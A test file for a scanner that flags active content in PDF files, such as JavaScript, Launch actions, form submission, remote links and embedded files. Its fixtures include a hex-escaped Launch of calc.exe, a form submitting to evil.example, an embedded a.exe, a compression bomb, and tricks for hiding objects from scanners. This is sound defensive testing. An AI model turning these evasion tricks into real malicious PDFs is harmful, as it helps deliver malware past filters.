import { deflateSync } from 'node:zlib';
import {
  HEX_ESCAPED_JS_PDF,
  LAUNCH_PDF,
  OBJECT_STREAM_JS_PDF,
  OPEN_ACTION_JS_PDF,
  PLAIN_PDF,
  letterPdf,
  pdfStream,
} from '../../test/utils/document-samples';
import { scanPdf } from './pdf-active-content';

/** A letter with one more object: an object stream holding `objects` (its dictionary given by `dict`). */
function withObjectStream(objects: string, dict = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ', packed?: Buffer): Buffer {
  const content = Buffer.from(`9 0\n${objects}`, 'latin1'); // the header: object 9 at offset 0
  return letterPdf('', [pdfStream(packed ?? deflateSync(content), dict)]);
}

describe('scanPdf', () => {
  it('finds nothing in a plain letter, though it has an OpenAction (one that shows its first page)', async () => {
    expect(await scanPdf(PLAIN_PDF)).toEqual({ kind: 'clean' });
    expect(await scanPdf(letterPdf('/OpenAction [3 0 R /Fit] ', [], [1, 2, 3, 5]))).toEqual({ kind: 'clean' });
    // Links to web pages and within the document run nothing either.
    const links = letterPdf('/Outlines << /First << /Title (Notice) /A << /S /GoTo /D [3 0 R /Fit] >> >> >> ', [
      '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.com/) >> >>',
    ]);
    expect(await scanPdf(links)).toEqual({ kind: 'clean' });
  });

  it('finds JavaScript run on open (OpenAction)', async () => {
    expect(await scanPdf(OPEN_ACTION_JS_PDF)).toEqual({ kind: 'active', found: ['JS', 'JavaScript'] });
  });

  it('finds JavaScript inside a compressed object stream, where no byte of it shows', async () => {
    expect(OBJECT_STREAM_JS_PDF.includes('JavaScript')).toBe(false);
    expect(await scanPdf(OBJECT_STREAM_JS_PDF)).toEqual({ kind: 'active', found: ['JS', 'JavaScript'] });
  });

  it('reads names with #xx escapes as the names they spell', async () => {
    expect(HEX_ESCAPED_JS_PDF.includes('/JavaScript')).toBe(false);
    expect(await scanPdf(HEX_ESCAPED_JS_PDF)).toEqual({ kind: 'active', found: ['JS', 'JavaScript'] });
    expect(await scanPdf(withObjectStream('<< /S /#4c#61unch /F (calc.exe) >>'))).toEqual({ kind: 'active', found: ['Launch'] });
  });

  it('finds a Launch action', async () => {
    expect(await scanPdf(LAUNCH_PDF)).toEqual({ kind: 'active', found: ['Launch'] });
  });

  it.each([
    [
      'a page that runs a script when opened (AA)',
      letterPdf('', ['<< /O << /S /JavaScript /JS (app.beep\\(0\\)) >> >>']),
      ['JS', 'JavaScript'],
    ],
    [
      'a document-level script (the JavaScript name tree)',
      letterPdf('/Names << /JavaScript << /Names [(a) 6 0 R] >> >> '),
      ['JavaScript'],
    ],
    ['a form that sends itself away', letterPdf('/OpenAction << /S /SubmitForm /F (https://evil.example/) >> '), ['SubmitForm']],
    ['a form that reads a file in', letterPdf('/OpenAction << /S /ImportData /F (data.fdf) >> '), ['ImportData']],
    [
      'a link that opens another file (a share, say)',
      letterPdf('/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> '),
      ['GoToR'],
    ],
    [
      'an attached file (name tree and file specification)',
      letterPdf('/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >> ', [
        pdfStream('MZ', '/Type /EmbeddedFile '),
      ]),
      ['EF', 'EmbeddedFile', 'EmbeddedFiles'],
    ],
    [
      'a file attachment annotation',
      letterPdf('', ['<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) >> >>']),
      ['FileAttachment'],
    ],
    ['an XFA form', letterPdf('/AcroForm << /Fields [] /XFA 6 0 R >> ', [pdfStream('<xdp:xdp/>')]), ['XFA']],
    [
      'a rendition action with a script',
      letterPdf('/OpenAction << /S /Rendition /OP 0 /JS (app.beep\\(0\\)) >> '),
      ['JS', 'Rendition'],
    ],
  ])('finds %s', async (_case, file, found) => {
    expect(await scanPdf(file)).toEqual({ kind: 'active', found });
  });

  it('reads an object stream known only by its N and First entries (readers do not need its Type)', async () => {
    const file = withObjectStream('<< /S /JavaScript /JS (x) >>', '/N 1 /First 4 /Filter /FlateDecode ');
    expect(await scanPdf(file)).toEqual({ kind: 'active', found: ['JS', 'JavaScript'] });
    // An unfiltered object stream is read as it is.
    const plain = Buffer.from('9 0\n<< /EF << /F 1 0 R >> >>', 'latin1');
    expect(await scanPdf(withObjectStream('', '/Type /ObjStm /N 1 /First 4 ', plain))).toEqual({ kind: 'active', found: ['EF'] });
  });

  it('finds an object wherever it sits, even inside another stream, as a reader reaches it by its offset', async () => {
    const hidden = letterPdf('', [pdfStream('q Q\n9 0 obj << /Type /Filespec /EF << /F 4 0 R >> >> endobj\n')]);
    expect(await scanPdf(hidden)).toEqual({ kind: 'active', found: ['EF'] });
    const commented = letterPdf('', ['<< >>\nendobj\n9 0 % a comment\nobj << /Type /Filespec /EF << /F 4 0 R >> >>']);
    expect(await scanPdf(commented)).toEqual({ kind: 'active', found: ['EF'] });
  });

  it('does not count short names inside strings or comments', async () => {
    const file = letterPdf('/PageLabels << /Nums [0 << /P (/JS /EF /XFA) >>] >> ', ['<< /Producer (a \\) /JS) >>\n% /JS /XFA']);
    expect(await scanPdf(file)).toEqual({ kind: 'clean' });
  });

  it('leaves unchecked what it cannot read: other filters, predictors, encryption, corrupt data', async () => {
    const inside = '<< /Type /Page >>';
    expect(await scanPdf(withObjectStream(inside, '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode '))).toEqual({
      kind: 'unchecked',
      reason: 'object stream filtered with LZWDecode',
    });
    expect(
      await scanPdf(withObjectStream(inside, '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] ')),
    ).toMatchObject({
      kind: 'unchecked',
    });
    expect(
      await scanPdf(
        withObjectStream(inside, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >> '),
      ),
    ).toEqual({ kind: 'unchecked', reason: 'object stream with a predictor' });
    expect(await scanPdf(withObjectStream(inside, undefined, Buffer.from('not zlib at all')))).toMatchObject({
      kind: 'unchecked',
    });
    const encrypted = Buffer.concat([withObjectStream(inside), Buffer.from('trailer << /Encrypt 12 0 R >>\n')]);
    expect(await scanPdf(encrypted)).toEqual({ kind: 'unchecked', reason: 'encrypted, with object streams' });
  });

  it('inflates at most maxInflatedBytes, so the check is no bomb itself', async () => {
    // 8 MB of spaces deflate to 8 KB (a real bomb goes on to gigabytes); the script comes after them.
    const bomb = deflateSync(
      Buffer.concat([Buffer.from('9 0\n'), Buffer.alloc(8 * 1024 * 1024, 0x20), Buffer.from('<< /S /JavaScript /JS (x) >>')]),
    );
    expect(bomb.length).toBeLessThan(10_000);
    const file = withObjectStream('', undefined, bomb);
    expect(await scanPdf(file, { maxInflatedBytes: 1024 * 1024 })).toEqual({
      kind: 'unchecked',
      reason: 'object streams inflate past 1048576 bytes',
    });
    expect(await scanPdf(file, { maxInflatedBytes: 9 * 1024 * 1024 })).toEqual({ kind: 'active', found: ['JS', 'JavaScript'] });
  });

  it('says what it found even when part of the file could not be checked', async () => {
    const file = Buffer.concat([
      withObjectStream('<< >>', undefined, Buffer.from('corrupt')),
      Buffer.from('7 0 obj << /S /Launch >> endobj\n'),
    ]);
    expect(await scanPdf(file)).toEqual({ kind: 'active', found: ['Launch'] });
  });

  it('gives up on files that would take too long to read', async () => {
    expect(await scanPdf(Buffer.from(`%PDF-1.7\n1 0 obj ${'['.repeat(10_000)}`))).toEqual({
      kind: 'unchecked',
      reason: 'values nested more than 200 deep',
    });
    expect(await scanPdf(Buffer.from(`%PDF-1.7\n${'1 0 obj ('.repeat(100_000)}`))).toEqual({
      kind: 'unchecked',
      reason: 'the file takes too long to read',
    });
  });
});
